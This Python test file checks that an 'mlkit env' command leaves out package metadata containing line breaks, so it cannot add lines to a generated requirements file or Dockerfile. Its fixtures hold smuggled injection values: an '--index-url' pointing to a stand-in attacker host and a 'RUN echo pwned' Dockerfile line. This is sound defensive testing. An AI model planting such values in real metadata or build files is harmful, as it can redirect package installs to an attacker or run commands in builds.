"""`mlkit env` writes only valid package names and versions: metadata holding a line break cannot add lines to the
requirements file or the Dockerfile."""

import subprocess
import sys

from mlkit.archive import Archive, new_run_id
from mlkit.objects import store_bytes
from mlkit.snapshots import describe_environment

EVIL = {  # dist-info folder -> METADATA; a folded header keeps its line break in the value
    "evilversion-1.0.dist-info": "Metadata-Version: 2.1\nName: evilversion\nVersion: 1.0\n"
                                 " --index-url http://attacker.invalid/simple\n",
    "evilname-1.0.dist-info": "Metadata-Version: 2.1\nName: evilname\n RUN echo pwned\nVersion: 1.0\n",
    "fine-2.0.dist-info": "Metadata-Version: 2.1\nName: Fine_Package\nVersion: 2.0\n",
}


def test_package_metadata_with_line_breaks_is_left_out_with_a_warning(project, tmp_path):
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(tmp_path / "env")], check=True, timeout=60)
    python = tmp_path / "env" / "bin" / "python"
    site = next((tmp_path / "env" / "lib").glob("python*/site-packages"))
    for folder, metadata in EVIL.items():
        (site / folder).mkdir()
        (site / folder / "METADATA").write_text(metadata)
    described = describe_environment(str(python))
    assert "attacker.invalid" in described and "pwned" in described  # the metadata really holds them
    archive = Archive(project.archive)
    sha = store_bytes(archive.root, described.encode())
    run_id = new_run_id()
    archive.commit(archive.stage(run_id), {"id": run_id, "job": "tiny", "status": "succeeded",
                                           "environment": {"lock": sha}})
    for command in (["env", run_id], ["env", run_id, "--format", "dockerfile"]):
        result = project.mlkit(*command, check=0)
        assert "attacker.invalid" not in result.stdout and "pwned" not in result.stdout
        assert "index-url" not in result.stdout and "RUN echo" not in result.stdout
        assert "fine-package==2.0" in result.stdout
        assert result.stderr.count("warning: left out package") == 2, result.stderr
        assert "'evilversion'" in result.stderr and "evilname" in result.stderr
